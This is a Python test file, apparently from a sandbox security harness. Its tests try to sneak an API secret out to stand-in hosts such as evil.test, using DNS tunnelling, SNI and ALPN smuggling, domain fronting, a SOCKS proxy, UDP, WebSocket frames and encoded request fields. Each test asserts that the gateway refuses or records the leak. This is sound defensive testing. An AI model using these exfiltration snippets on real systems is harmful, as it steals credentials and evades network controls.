"""Carrying keys out of the sandbox."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from checks.conformance import test_security as checks
from harness.checking import Undetermined
from harness.gateway.entries import RejectionReason
from harness.sandbox.protocol import Backend
from harness.scenarios.recording import wire_of
from harness.scenarios.trace.model import Trace
from harness.venue.dialects import dialect
from tests.gateway.tiny import HOST
from tests.hostile.attack import attack
from tests.hostile.leaking import Thief, thief
from tests.scenarios.trace.sample import HEADER

REFUSED = "refused, recorded with its first bytes, and a blocker"
FOUND = "the secret is found where it was sent, and a blocker"


@pytest.fixture
def spy(backend: Backend) -> Iterator[Thief]:
    with thief(backend) as ready:
        yield ready


@attack("calls a stranger's server over HTTPS, the secret in the query", meets=REFUSED)
def test_a_query_to_a_stranger(spy: Thief) -> None:
    seen = spy.steals('print(get("collect.evil.test", "/c?k=" + SECRET))')
    assert "421" in seen.said
    assert seen.reached == {"collect.evil.test:443", "collect.evil.test"}
    assert seen.places == {"first bytes"}
    rejected = seen.rejected()
    assert (rejected.host, rejected.sni, rejected.port, rejected.tls) == (
        "collect.evil.test", "collect.evil.test", 443, True,
    )  # fmt: skip
    assert "GET /c?k=‹api_secret›" in seen.record.evidence(rejected).text


@attack("posts the secret to a stranger in plain HTTP, packed in base64", meets=REFUSED)
def test_plain_http_to_a_stranger(spy: Thief) -> None:
    seen = spy.steals(
        "packed = base64.b64encode(('id:' + SECRET).encode()).decode()\n"
        'print(ask(connect("evil.test", 80), "POST / HTTP/1.1\\nHost: evil.test", packed))'
    )
    assert seen.reached == {"evil.test:80", "evil.test"}
    assert seen.places == {"first bytes"}
    assert not seen.rejected().tls


@attack("talks a protocol of its own to a stranger inside TLS", meets=REFUSED)
def test_another_protocol(spy: Thief) -> None:
    seen = spy.steals('c = secure("evil.test", port=6379); c.sendall(b"SET k " + SECRET.encode()); c.close()')
    assert "evil.test:6379" in seen.reached
    assert seen.places == {"first bytes"}
    assert seen.rejected().first_bytes.startswith(b"SET k ")


@attack("opens a WebSocket to a stranger", meets=REFUSED)
def test_a_websocket_to_a_stranger(spy: Thief) -> None:
    seen = spy.steals('upgrade("evil.test", "/stream", "Sec-WebSocket-Protocol: " + SECRET)')
    assert "evil.test:443" in seen.reached
    assert seen.places == {"first bytes"}


@attack("asks a SOCKS proxy to carry its words", meets="no TLS and no HTTP: refused, and the proxy named")
def test_a_socks_proxy(spy: Thief) -> None:
    seen = spy.steals('c = connect("proxy.evil.test", 1080); c.sendall(b"\\x05\\x01\\x00"); print(heard(c))')
    assert seen.reached == {"127.0.0.1:1080", "proxy.evil.test"}
    assert (seen.rejected().reason, seen.rejected().first_bytes) == (
        RejectionReason.NOT_HTTP,
        b"\x05\x01\x00",
    )


@attack(
    "connects to an address written into the code, TLS without a name",
    meets="refused; the address is the evidence",
)
def test_a_hard_coded_address(spy: Thief) -> None:
    seen = spy.steals(
        "careless.check_hostname = False\n"
        'try: careless.wrap_socket(connect("203.0.113.9"))\n'
        "except OSError as error: print(error)"
    )
    assert seen.reached == {"203.0.113.9:443"}
    assert (seen.rejected().reason, seen.rejected().tls) == (RejectionReason.NO_NAME, True)


@attack("connects to an IPv6 address", meets="refused; the address is the evidence")
def test_ipv6(spy: Thief) -> None:
    seen = spy.steals(
        "try: c = connect('2001:db8::9', 8443); c.sendall(SECRET.encode()); print(heard(c))\n"
        "except OSError as error: print(error)"
    )
    assert seen.reached <= {"2001:db8::9:8443"}
    assert seen.reached or "unreachable" in seen.said


@attack("connects to an address and never says a word", meets="the connection itself is the evidence")
def test_a_silent_connection(spy: Thief) -> None:
    seen = spy.steals('c = connect("198.51.100.7", 4444); time.sleep(0.3); c.close()')
    assert seen.reached == {"198.51.100.7:4444"}
    assert seen.rejected().reason is RejectionReason.SILENT


@attack("sends the secret in UDP datagrams", meets="they are dropped; their destination is recorded")
def test_udp(spy: Thief) -> None:
    seen = spy.steals(
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "for part in (SECRET[:32], SECRET[32:]): s.sendto(part.encode(), ('203.0.113.9', 5353))\n"
        "time.sleep(0.3)"
    )
    assert seen.reached == {"203.0.113.9:5353"}
    assert seen.rejected().reason is RejectionReason.DATAGRAM


@attack("looks up names made of the secret in hex, a few bytes each", meets=FOUND)
def test_look_ups_in_hex(spy: Thief) -> None:
    seen = spy.steals(
        "text = SECRET.encode().hex()\n"
        "for at in range(0, len(text), 16): look_up('%s.%d.evil.test' % (text[at:at + 16], at))"
    )
    assert seen.places == {"look-up"}
    assert any(name.endswith(".evil.test") for name in seen.reached)


@attack("asks for TXT records of names made of the secret in base32, cut by dots", meets=FOUND)
def test_txt_records(spy: Thief) -> None:
    seen = spy.steals(
        "text = base64.b32encode(SECRET.encode()).decode().rstrip('=').lower()\n"
        "labels = [text[at:at + 30].encode() for at in range(0, len(text), 30)] + [b'evil', b'test']\n"
        "name = b''.join(bytes([len(each)]) + each for each in labels) + b'\\0'\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "s.settimeout(10)\n"
        "head = struct.pack('!6H', 7, 256, 1, 0, 0, 0)\n"
        "s.sendto(head + name + struct.pack('!HH', 16, 1), ('127.0.0.1', 53))\n"
        "s.recv(512)"
    )
    assert seen.places == {"look-up"}
    assert {each.kind for each in seen.record.lookups()} == {"TXT"}


@attack(
    "tells the secret's bits by which of two names it looks up, and when",
    meets="both names are undeclared hosts: a blocker",
)
def test_names_as_a_code(spy: Thief) -> None:
    seen = spy.steals(
        "bits = ''.join(f'{ord(c):08b}' for c in SECRET[:4])\n"
        "for bit in bits: look_up('zero.evil.test' if bit == '0' else 'one.evil.test')"
    )
    assert seen.reached == {"zero.evil.test", "one.evil.test"}


@attack("makes TLS handshakes for names that hold the secret", meets=FOUND)
def test_server_names(spy: Thief) -> None:
    seen = spy.steals(
        "text = base64.b32encode(SECRET.encode()).decode().rstrip('=').lower()\n"
        "name = text[:50] + '.' + text[50:100] + '.evil.test'\n"
        "try: secure('203.0.113.9', sni=name)\n"
        "except OSError as error: print(error)"
    )
    assert "host name" in seen.places
    assert any(place.endswith(".evil.test:443") for place in seen.reached)


@attack("offers the secret as the name of an application protocol (ALPN)", meets=FOUND)
def test_application_protocols(spy: Thief) -> None:
    seen = spy.steals('trusted.set_alpn_protocols([SECRET, "http/1.1"]); print(get(HOST))')
    assert "200" in seen.said
    assert seen.places == {"TLS hello"}


@attack("puts the secret into the User-Agent of a call to its exchange", meets=FOUND)
def test_a_header(spy: Thief) -> None:
    seen = spy.steals('print(get(HOST, "/ping", "User-Agent: bot/1 " + SECRET[::-1]))')
    assert seen.places == {"header User-Agent"}
    assert not seen.reached


@attack("adds the secret to an order as one more JSON field, letter by letter", meets=FOUND)
def test_a_field_of_an_order(spy: Thief) -> None:
    seen = spy.steals(
        'order = json.dumps({"side": "buy", "note": list(SECRET)})\n'
        'print(ask(secure(HOST), "POST /order HTTP/1.1\\nHost: " + HOST, order))'
    )
    assert "placed" in seen.said
    assert seen.places == {"body"}


@attack("hands the secret out in pieces, eight characters in each client order id", meets=FOUND)
def test_order_ids(spy: Thief) -> None:
    seen = spy.steals(
        "for at in range(0, 64, 8):\n"
        "    order = 'side=buy&clientOrderId=x-' + SECRET[at:at + 8]\n"
        '    ask(secure(HOST), "POST /order HTTP/1.1\\nHost: " + HOST, order)'
    )
    assert seen.places == {"body"}
    assert len(seen.record.find_secret("api_secret")) == 8


@attack("hides the secret behind percent signs in a path nobody serves", meets=FOUND)
def test_a_path(spy: Thief) -> None:
    seen = spy.steals(
        "path = ''.join('%%%02X' % ord(c) if at % 3 else c for at, c in enumerate(SECRET))\n"
        'print(get(HOST, "/favicon/" + path))'
    )
    assert "404" in seen.said
    assert seen.places == {"url"}


@attack("says it in WebSocket frames: text, a ping's payload and the closing words", meets=FOUND)
def test_frames(spy: Thief) -> None:
    seen = spy.steals(
        'c = upgrade(STREAMS, "/ws")\n'
        "c.sendall(frame(1, SECRET.encode().hex()[:100].encode()) + frame(9, SECRET.encode()))\n"
        "c.sendall(frame(8, struct.pack('!H', 4000) + SECRET[:20].encode()))\n"
        "while heard(c): pass"
    )
    assert seen.places == {"frame", "closing words"}
    assert not seen.reached


@attack("speaks TLS to its exchange and names a stranger in the Host header (domain fronting)", meets=REFUSED)
def test_domain_fronting(spy: Thief) -> None:
    seen = spy.steals('print(ask(secure(HOST), "GET / HTTP/1.1\\nHost: evil.test\\nX-Key: " + SECRET))')
    assert "421" in seen.said
    assert seen.reached == {"evil.test:443"}
    assert (seen.rejected().reason, seen.rejected().sni) == (RejectionReason.HOST_MISMATCH, HOST)
    assert seen.places == {"first bytes"}


@attack("sends a second request, for a stranger, on a connection that its exchange serves", meets=REFUSED)
def test_a_second_request(spy: Thief) -> None:
    seen = spy.steals(
        "c = secure(HOST)\n"
        "one = 'GET /%s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n'\n"
        "c.sendall((one % ('ping', HOST) + one % (SECRET, 'evil.test')).encode())\n"
        "while heard(c): pass"
    )
    assert len(seen.record.exchanges("ping")) == 1
    assert seen.reached == {"evil.test:443"}
    assert seen.places == {"first bytes"}


@attack("asks its exchange to be a proxy (CONNECT, and a whole address as target)", meets=REFUSED)
def test_the_exchange_as_a_proxy(spy: Thief) -> None:
    seen = spy.steals(
        'ask(secure(HOST), "CONNECT evil.test:443 HTTP/1.1\\nHost: " + HOST)\n'
        'get(HOST, "https://%s.evil.test/" % SECRET[:60])'
    )
    assert len(seen.reached) == 2
    assert {each.reason for each in seen.record.rejected()} == {RejectionReason.HOST_MISMATCH}
    assert seen.places >= {"host name", "first bytes"}


@attack("calls its exchange's name on a port that nobody declared", meets=REFUSED)
def test_another_port(spy: Thief) -> None:
    seen = spy.steals('print(get(HOST, "/" + SECRET, port=8443))')
    assert seen.reached == {f"{HOST}:8443"}
    assert seen.rejected().reason is RejectionReason.UNDECLARED_PORT


@attack(
    "floods the record with honest calls first, so that the leak finds no room in it",
    meets="what is not kept is counted: nothing passes that was not seen whole",
)
def test_a_flood_before_the_leak(spy: Thief) -> None:
    seen = spy.steals(
        """
        c = secure(HOST)
        for _ in range(60): ask(c, "GET /ping HTTP/1.1\\nHost: " + HOST)
        get("evil.test", "/" + SECRET)
        """,
        room=50,
    )
    assert not seen.places
    entries = tuple(wire_of(seen.record, seen.record.canaries, (), dialect("binance")))
    with pytest.raises(Undetermined, match="more than can be recorded"):
        checks.expect_complete([Trace(HEADER, entries)])
